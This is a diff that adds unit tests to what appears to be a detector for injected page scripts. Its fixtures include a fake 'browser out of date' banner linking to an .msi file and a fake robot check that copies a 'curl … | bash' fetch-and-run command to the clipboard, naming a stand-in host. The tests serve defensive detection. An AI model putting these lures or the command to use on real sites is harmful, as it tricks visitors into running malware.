@@ -92,6 +92,35 @@ def test_installers_updates_of_the_site_and_commands_to_copy_are_none(code):
     assert signs(code) == []
 
 
+JQUERY = (
+    "$(function(){$('body').prepend('<div><h1>Your browser is out of date</h1>"
+    '<a href="https://files.foreign.example/update.msi">Update</a></div>\')})'
+)
+PASTED = (
+    "box.innerHTML='<p>Prove you are not a robot</p><ol><li>Open the Terminal</li>"
+    "<li>Press <b>Cmd</b> + <b>V</b></li></ol>';"
+    "navigator.clipboard.writeText('curl -s cdn.foreign.example/v | bash')"
+)
+
+
+def test_what_jquery_writes_is_read():
+    assert [sign for sign, _, _ in signs(JQUERY)] == [TamperSign.SCRIPT_WRITES]
+    assert signs(JQUERY.replace("update.msi", "update.html")) == []
+    assert writes(find_marks(JQUERY.lower().encode()))
+
+
+def test_a_command_in_the_clipboard_needs_no_address_below_a_pretence():
+    assert [sign for sign, _, _ in signs(PASTED)] == [TamperSign.SCRIPT_WRITES]
+
+
+@pytest.mark.parametrize(
+    ("said", "instead"),
+    [("Prove you are not a robot", "Install the client"), ("curl -s cdn.foreign.example/v | bash", "SAVE10")],
+)
+def test_instructions_with_a_copy_button_are_no_pretence(said, instead):
+    assert signs(PASTED.replace(said, instead)) == []
+
+
 def test_properties_in_brackets_are_read():
     code = "document['write'](String['fromCharCode'](" + ",".join(str(ord(c)) for c in MARKUP) + "))"
     assert [sign for sign, _, _ in signs(code)] == [TamperSign.SCRIPT_WRITES]
